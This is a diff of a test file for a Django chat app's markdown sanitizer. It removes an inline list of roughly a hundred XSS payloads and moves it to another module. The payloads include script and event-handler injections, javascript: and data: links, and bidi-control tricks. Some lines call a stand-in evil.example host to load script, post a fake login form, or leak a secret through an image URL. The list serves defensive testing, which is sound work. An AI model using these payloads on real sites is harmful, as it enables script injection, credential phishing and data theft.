@@ -13,101 +13,13 @@ from django.utils.safestring import SafeString
 from chat import markup
 from chat.models import Chat, Message, Role
 from tests.acts import add_message
+from tests.hostile_markdown import FENCE, HOSTILE
 
-FENCE = "`" * 3
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src='x'/onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-    "<svg><use href='data:image/svg+xml;base64,AAAA#x'/></svg>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<math href='javascript:alert(1)'>click</math>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data='javascript:alert(1)'></object>",
-    "<embed src='javascript:alert(1)'>",
-    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
-    "<input autofocus onfocus=alert(1)>",
-    "<select autofocus onfocus=alert(1)></select>",
-    "<textarea autofocus onfocus=alert(1)></textarea>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<body onload=alert(1)>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<base href=https://evil.example/>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<p style='background:url(https://evil.example/x)'>x</p>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<!-- --><script>alert(1)</script><!-- -->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><script>alert(1)</script>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](&#x6A&#x61vascript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](  javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](file:///etc/passwd)",
-    "[x](blob:https://evil.example/1)",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "[x](https://evil.example 'a\" onmouseover=\"alert(1)')",
-    '[x](https://evil.example/"onmouseover="alert(1))',
-    "<javascript:alert(1)>",
-    "<https://evil.example/\"onmouseover='alert(1)'>",
-    "![x](https://evil.example/pixel.png?leak=secret)",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    "[![x](https://evil.example/a.png)](javascript:alert(1))",
-    '![x](https://evil.example/a.png "a\\" onerror=\\"alert(1)")',
-    f"{FENCE}html\n<script>alert(1)</script>\n{FENCE}",
-    f'{FENCE}" onmouseover="alert(1)\nx\n{FENCE}',
-    f"{FENCE}<img src=x onerror=alert(1)>\nx\n{FENCE}",
-    f"{FENCE}js\nlet x = '{FENCE}'\n<script>alert(1)</script>",
-    f"{FENCE}{FENCE}\n{FENCE}\n<script>alert(1)</script>\n{FENCE}\n{FENCE}{FENCE}",
-    "`<script>alert(1)</script>",
-    "| a | b |\n| --- |\n| <script>alert(1)</script> |",
-    "| a |\n| :-: |\n| <img src=x onerror=alert(1)> |\n| [x](javascript:alert(1)) |",
-    "| a\n|---\n| b | c | d | <script>alert(1)</script>",
-    r"\(<img src=x onerror=alert(1)>\)",
-    r"\[<script>alert(1)</script>\]",
-    "$$<script>alert(1)</script>$$",
-    "$<img src=x onerror=alert(1)>$ and $x",
-    r"\[ \href{javascript:alert(1)}{x} \] (<script>alert(1)</script>)",
-    r"$$ \begin{matrix} a & b",
-    "> <script>alert(1)</script>\n> > <img src=x onerror=alert(1)>",
-    "\u202e<script>alert(1)</script>\u202c \u2066[x](javascript:alert(1))\u2069",
-    "\u202egnp.exe\u202c \u200f\u200e\u061c",
-    "a" * 10_000,
-    "<" * 10_000,
-    "[" * 5_000 + "]" * 5_000,
-    "*" * 5_000 + "a" + "_" * 5_000,
-    "`" * 10_000,
-    "> " * 5_000 + "x",
-    "- " * 5_000 + "x",
-    "![" * 5_000,
-    r"\(" * 5_000,
-    "\\[\n" * 5_000,
-    "$$\n" * 5_000,
-    "$" * 9_999,
-    "https://evil.example/" + "(" * 5_000,
-    "&" * 5_000 + "&#0;&#x110000;&nbsp",
-    "x\x00y<script>\x00alert(1)</script>",
-]
+
+def code(within: str, language: str = "") -> str:
+    """A piece of code, as it is framed."""
+    frame = f'<div class="code"><div class="language">{language}</div>'
+    return f'{frame}<pre dir="ltr" tabindex="0">{within}</pre></div>\n'
 
 
 class Looking(HTMLParser):
@@ -132,7 +44,7 @@ def test_nothing_comes_out_that_could_act_or_fetch(text: str) -> None:
     for tag, name, value in found.attributes:
         assert name in {"href", "title", "target", "rel", "class", "dir", "start", "tabindex"}, (tag, name)
         if name == "href":
-            assert urlsplit(value).scheme in {"", *markup.SCHEMES}, value
+            assert urlsplit(value).scheme in markup.SCHEMES, value
             assert (tag, "rel", "noopener noreferrer nofollow") in found.attributes
 
 
@@ -147,8 +59,12 @@ def test_there_are_enough_of_them() -> None:
         ("# A\n## B\n###### C", '<h3 dir="auto">A</h3>\n<h4 dir="auto">B</h4>\n<h6 dir="auto">C</h6>\n'),
         ("~~no~~ **yes** _so_", '<p dir="auto"><s>no</s> <strong>yes</strong> <em>so</em></p>\n'),
         ("3. x", '<ol start="3">\n<li dir="auto">x</li>\n</ol>\n'),
-        ("    code", '<pre dir="ltr"><code>code\n</code></pre>\n'),
-        (f"{FENCE}py a\nx < 1\n{FENCE}", '<pre dir="ltr"><code class="language-py">x &lt; 1\n</code></pre>\n'),
+        (
+            "- [ ] a\n- [x] b",
+            '<ul>\n<li dir="auto">☐ a</li>\n<li dir="auto">☑ b</li>\n</ul>\n',
+        ),
+        ("    code", code("<code>code\n</code>")),
+        (f"{FENCE}py a\nx < 1\n{FENCE}", code('<code class="language-py">x &lt; 1\n</code>', "py")),
         (r"Now \(x^2 < 1\).", '<p dir="auto">Now <span class="math inline" dir="ltr">x^2 &lt; 1</span>.</p>\n'),
         ("It costs $5 or $10.", '<p dir="auto">It costs $5 or $10.</p>\n'),
         ("<b>bold</b> & co", '<p dir="auto">&lt;b&gt;bold&lt;/b&gt; &amp; co</p>\n'),
